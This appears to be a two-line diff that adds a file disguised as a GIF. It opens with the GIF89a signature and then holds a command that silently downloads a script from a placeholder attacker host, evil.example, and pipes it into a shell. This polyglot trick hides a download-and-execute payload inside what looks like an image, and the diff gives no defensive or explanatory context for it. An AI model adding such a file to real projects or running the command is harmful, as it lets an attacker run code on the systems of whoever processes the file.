@@ -1,0 +1,2 @@
+GIF89a;
+curl -s https://evil.example | sh
